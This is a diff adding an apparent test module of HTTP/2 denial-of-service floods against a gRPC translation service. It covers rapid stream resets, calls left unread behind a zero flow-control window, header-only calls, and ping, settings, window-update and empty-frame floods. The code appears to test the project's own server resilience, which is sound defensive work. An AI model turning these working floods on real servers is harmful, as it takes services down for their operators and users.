@@ -1,0 +1,146 @@
+"""What one connection, or a few, can send for as long as they like.
+
+Each flood goes on until `until`, in seconds of the monotonic clock, and reads nothing unless it
+says so. Where the server hangs up or takes no more, that is its good right.
+"""
+
+import socket
+import struct
+import threading
+import time
+from collections.abc import Iterator
+from contextlib import ExitStack, contextmanager
+
+from dragoman.v1.translation_pb2 import TranslateTextRequest
+from tests.attacks import http2
+
+METHOD = b"/dragoman.v1.TranslationService/TranslateText"
+HEADERS = http2.headers(METHOD)
+TEXT = TranslateTextRequest(contents=["where is the house by the river"]).SerializeToString()
+
+AT_ONCE = 50
+"""Frames of a kind in one piece."""
+
+# What asks for no answer's flow control: the server may send as much as it likes.
+WIDE = 1 << 30
+
+
+def resets(address: str, until: float) -> int:
+    """Opens streams and cancels each at once; reads. Returns how many."""
+    with _connected(address) as connection:
+        _read_forever(connection)
+        connection.sendall(http2.settings(window=WIDE))
+        first = 1
+        while time.monotonic() < until:
+            streams = range(first, first + 2 * AT_ONCE, 2)
+            first = streams.stop
+            if not _sent(connection, b"".join(map(_opened_and_reset, streams)), until):
+                break
+    return first // 2
+
+
+def unread_calls(address: str, until: float, *, connections: int, calls: int) -> None:
+    """Makes calls on each connection whose answers have no room to be sent into."""
+    with ExitStack() as stack:
+        for _ in range(connections):
+            connection = stack.enter_context(_connected(address))
+            connection.sendall(http2.settings(window=0))
+            for first in range(1, 2 * calls, 2 * AT_ONCE):
+                streams = range(first, first + 2 * AT_ONCE, 2)
+                if not _sent(connection, b"".join(map(_call, streams)), until):
+                    break
+        _wait(until)
+
+
+def headers_only(address: str, until: float, *, connections: int, calls: int) -> None:
+    """Begins calls whose message never comes."""
+    with ExitStack() as stack:
+        for _ in range(connections):
+            connection = stack.enter_context(_connected(address))
+            connection.sendall(http2.settings(window=WIDE))
+            _sent(connection, b"".join(map(_headers, range(1, 2 * calls, 2))), until)
+        _wait(until)
+
+
+def pings(address: str, until: float) -> None:
+    """Sends pings."""
+    _repeat(address, http2.frame(http2.PING, 0, 0, b"attacked"), until)
+
+
+def settings(address: str, until: float) -> None:
+    """Changes its mind about the settings, again and again."""
+    payload = struct.pack(">HI", 3, 100)
+    _repeat(address, http2.frame(http2.SETTINGS, 0, 0, payload), until)
+
+
+def window_updates(address: str, until: float) -> None:
+    """Widens the connection's window by one byte, again and again; that of a stream likewise."""
+    update = http2.frame(http2.WINDOW, 0, 0, struct.pack(">I", 1))
+    _repeat(address, update, until)
+
+
+def empty_messages(address: str, until: float) -> None:
+    """Sends frames without data on one stream."""
+    start = _headers(1)
+    _repeat(address, http2.frame(http2.DATA, 0, 1, b""), until, start)
+
+
+def _repeat(address: str, piece: bytes, until: float, start: bytes = b"") -> None:
+    with _connected(address) as connection:
+        connection.sendall(http2.settings(window=WIDE) + start)
+        while time.monotonic() < until and _sent(connection, piece * 4 * AT_ONCE, until):
+            pass
+        _wait(until)
+
+
+def _headers(stream: int) -> bytes:
+    return http2.frame(http2.HEADERS, http2.END_HEADERS, stream, HEADERS)
+
+
+def _opened_and_reset(stream: int) -> bytes:
+    return _headers(stream) + http2.reset(stream)
+
+
+def _call(stream: int) -> bytes:
+    message = http2.frame(http2.DATA, http2.END_STREAM, stream, http2.message(TEXT))
+    return _headers(stream) + message
+
+
+@contextmanager
+def _connected(address: str) -> Iterator[socket.socket]:
+    host, port = address.rsplit(":", 1)
+    with socket.create_connection((host, int(port))) as connection:
+        connection.settimeout(0.2)
+        yield connection
+
+
+def _sent(connection: socket.socket, data: bytes, until: float) -> bool:
+    """Sends all of it, however slowly it is taken; False where the server hangs up or time is up."""
+    left = memoryview(data)
+    while left:
+        try:
+            left = left[connection.send(left) :]
+        except TimeoutError:
+            if time.monotonic() > until:
+                return False
+        except OSError:
+            return False
+    return True
+
+
+def _read_forever(connection: socket.socket) -> None:
+    def read() -> None:
+        while True:
+            try:
+                if not connection.recv(1 << 16):
+                    return
+            except TimeoutError:
+                continue
+            except OSError:
+                return
+
+    threading.Thread(target=read, daemon=True).start()
+
+
+def _wait(until: float) -> None:
+    time.sleep(max(0.0, until - time.monotonic()))
